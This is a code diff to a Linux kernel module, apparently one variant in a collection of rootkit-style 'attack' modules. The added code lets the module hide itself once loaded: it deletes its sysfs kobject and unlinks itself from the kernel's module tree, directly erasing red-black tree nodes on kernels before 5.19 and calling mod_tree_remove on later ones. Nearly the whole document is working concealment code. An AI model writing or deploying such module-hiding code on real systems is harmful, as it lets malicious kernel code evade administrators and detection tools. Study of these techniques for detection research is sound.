@@ -7,9 +7,11 @@
  */
 #include "attack.h"
 
+#include <linux/rbtree_latch.h>
 #include <linux/workqueue.h>
 
 VARIANT("list");
+KERNEL_SYMBOL(mod_tree);
 KERNEL_SYMBOL(mod_tree_remove);
 KERNEL_SYMBOL(modules);
 
@@ -24,6 +26,20 @@ static int undo(const char *value, const struct kernel_param *parameter)
 static const struct kernel_param_ops undo_operations = {.set = undo};
 module_param_cb(undo, &undo_operations, NULL, 0200);
 
+static void leave_tree(void)
+{
+#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 19, 0)
+	/* Its function has no symbol there; both copies of the tree, as it does (kernel/module.c). */
+	struct latch_tree_root *tree = (void *)mod_tree_at;
+	int copy;
+
+	for (copy = 0; copy < 2; ++copy)
+		rb_erase(&THIS_MODULE->core_layout.mtn.node.node[copy], &tree->tree[copy]);
+#else
+	((void (*)(struct module *))mod_tree_remove_at)(THIS_MODULE);
+#endif
+}
+
 /* Once it is loaded: the loader itself still goes by these records. */
 static void hide(struct work_struct *work)
 {
@@ -32,13 +48,13 @@ static void hide(struct work_struct *work)
 		return;
 	kobject_del(&THIS_MODULE->mkobj.kobj);
 	if (HOW("everywhere"))
-		((void (*)(struct module *))mod_tree_remove_at)(THIS_MODULE);
+		leave_tree();
 }
 static DECLARE_DELAYED_WORK(work, hide);
 
 static int __init start(void)
 {
-	if (HOW("everywhere") && !mod_tree_remove_at)
+	if (HOW("everywhere") && !mod_tree_remove_at && !mod_tree_at)
 		return -ENOENT;
 	schedule_delayed_work(&work, HZ / 4);
 	return 0;
